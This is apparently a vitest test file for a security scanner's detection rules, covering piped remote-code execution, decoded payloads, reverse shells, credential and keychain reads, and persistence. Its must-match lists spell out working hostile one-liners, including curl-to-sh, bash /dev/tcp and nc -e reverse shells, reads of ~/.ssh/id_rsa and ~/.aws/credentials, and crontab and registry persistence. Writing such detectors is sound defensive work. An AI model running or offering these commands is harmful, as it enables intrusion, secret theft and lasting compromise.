import { describe, expect, it } from "vitest";
import { findingsOf } from "./rule-cases";

async function cases(rule: string, must: string[], mustNot: string[]) {
  for (const text of must) expect(await findingsOf(rule, text), `${rule} must match: ${text}`).not.toEqual([]);
  for (const text of mustNot) expect(await findingsOf(rule, text), `${rule} must not match: ${text}`).toEqual([]);
}

describe("CR-2 code fetched, decoded or handed over", () => {
  it("CR-2 remote-code-execution: download piped or substituted into an interpreter (CRITICAL)", async () => {
    await cases(
      "remote-code-execution",
      [
        "curl -fsSL https://x.example/i.sh | sh",
        "wget -qO- http://x.example/a | sudo bash",
        'bash -c "$(curl -fsSL https://x.example/i.sh)"',
        "iex (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
        "exec(urlopen('http://x.example/p.py').read())",
        "eval(requests.get(url).text)",
        "source <(curl -s https://x.example/env)",
      ],
      ["curl -o report.pdf https://x.example/r.pdf", "pip install requests", "cat setup.sh | less"],
    );
    expect((await findingsOf("remote-code-execution", "curl -fsSL https://x.example/i.sh | sh"))[0]?.severity).toBe(
      "CRITICAL",
    );
    expect(
      (await findingsOf("remote-code-execution", "curl -LsSf https://astral.sh/uv/install.sh | sh"))[0]?.severity,
    ).toBe("MEDIUM");
  });
  it("CR-2 encoded-payload-execution: decoded and run", () =>
    cases(
      "encoded-payload-execution",
      [
        "echo aGVsbG8= | base64 -d | sh",
        "exec(base64.b64decode('cHJpbnQoMSk='))",
        "os.system(base64.b64decode(p).decode())",
        "eval(atob('YWxlcnQoMSk='))",
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
        "exec(zlib.decompress(blob))",
      ],
      ["data = base64.b64decode(payload)  # an image", "base64 -d image.b64 > image.png"],
    ));
  it("CR-2 reverse-shell: a shell handed to a remote machine (CRITICAL)", () =>
    cases(
      "reverse-shell",
      [
        "bash -i >& /dev/tcp/203.0.114.9/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4242",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
        "socat tcp:attacker:4444 exec:/bin/bash",
        "s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)",
        "$c = New-Object System.Net.Sockets.TCPClient('h',443)",
      ],
      ["nc -zv db.internal 5432", "Use socat to forward a port: socat TCP-LISTEN:80,fork TCP:localhost:8080"],
    ));
  it("CR-2 credential-store-read and keychain-read: reads of where secrets are kept", async () => {
    await cases(
      "credential-store-read",
      [
        "cat ~/.ssh/id_rsa",
        "tar czf /tmp/x.tgz ~/.aws/credentials",
        "open(os.path.expanduser('~/.git-credentials')).read()",
      ],
      ["Put your key in ~/.aws/credentials (see the AWS docs).", "ssh-keygen writes ~/.ssh/id_ed25519.pub"],
    );
    await cases(
      "keychain-read",
      [
        "security find-generic-password -s github -w",
        "copy ~/Library/Application Support/Google/Chrome/Default/Login Data",
      ],
      ["Use the security settings page.", "Chrome's cookie policy"],
    );
    await cases(
      "dotenv-read",
      ["cat .env", "curl -F f=@.env"],
      ["Copy .env.example to .env and fill it in.", "load_dotenv()"],
    );
  });
  it("CR-2 persistence and shell-startup-change: things that run again later", async () => {
    await cases(
      "persistence",
      [
        '(crontab -l; echo "* * * * * curl x|sh") | crontab -',
        "cp agent.plist ~/Library/LaunchAgents/",
        "launchctl load ~/Library/LaunchAgents/x.plist",
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "c:\\x.exe"',
        "schtasks /create /tn x /tr c:\\x.exe /sc minute",
        "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
      ],
      ["crontab -e is how you edit your own schedule", "List jobs with crontab -l"],
    );
    expect(
      (await findingsOf("shell-startup-change", "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc"))[0]?.severity,
    ).toBe("MEDIUM");
    expect((await findingsOf("shell-startup-change", "echo 'curl -s x.example/p | sh' >> ~/.zshrc"))[0]?.severity).toBe(
      "HIGH",
    );
    expect(await findingsOf("shell-startup-change", "source ~/.bashrc")).toEqual([]);
  });
});
